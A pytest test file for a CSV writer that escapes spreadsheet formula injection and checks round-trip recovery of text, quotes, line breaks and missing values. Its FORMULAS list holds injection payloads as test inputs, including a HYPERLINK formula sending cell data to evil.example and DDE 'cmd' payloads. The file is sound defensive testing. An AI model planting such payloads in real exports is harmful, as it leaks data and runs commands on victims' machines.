"""pipeline/compare/csv_files.py: no cell is a formula for a spreadsheet, and every text can be read back."""

import csv
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.compare.csv_files import escape_formula, unescape_formula, write_csv

FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+49 170 1234567",
    "-2+3+cmd|' /C calc'!A0",
    "- Rest and drink water.",
    "@SUM(1+1)",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u00a0\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '"=1+1"',
    "'=1+1",
    "''=1+1",
    "\tindented = code",
    "-",
    "--> done",
    "=",
]
HARMLESS = [
    "",
    "Rest.",
    "'Rest'",
    "a=b",
    "1-2",
    "-3",
    "+3",
    "-3.5",
    "-1e-7",
    "+.5",
    "流感 = 病",
    "(=1)",
    "e-mail: a@b.org",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_gets_an_apostrophe(text: str) -> None:
    assert escape_formula(text) == f"'{text}"
    assert unescape_formula(f"'{text}") == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_and_numbers_stay(text: str) -> None:
    assert escape_formula(text) == unescape_formula(text) == text


@given(st.text(st.sampled_from("'=+-@＝ \t\r\n\"x3.e")) | st.text())
def test_every_text_can_be_recovered(text: str) -> None:
    assert unescape_formula(escape_formula(text)) == text


def written(table: pd.DataFrame, folder: Path) -> list[list[str]]:
    write_csv(table, folder / "table.csv")
    with (folder / "table.csv").open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def test_texts_keep_line_breaks_quotes_and_nul(tmp_path: Path) -> None:
    texts = ["a\r\nb", "a\rb", "a\nb", 'say "x", then', "a,b;c\td", "\x00 NUL", " outer ", "NA", "1e5", ""]
    rows = written(pd.DataFrame({"text": texts, "number": range(len(texts))}), tmp_path)
    assert rows == [["text", "number"], *([text, str(i)] for i, text in enumerate(texts))]
    frame = pd.read_csv(tmp_path / "table.csv", keep_default_na=False, dtype=str)
    assert frame["text"].tolist() == texts


def test_numbers_missing_values_and_lone_surrogates(tmp_path: Path) -> None:
    table = pd.DataFrame({"=a": [-3, None], "b": [True, "cut \ud83d"], "c": [float("nan"), ["x"]]}, dtype=object)
    assert written(table, tmp_path) == [["'=a", "b", "c"], ["-3", "True", ""], ["", r"cut \ud83d", "['x']"]]
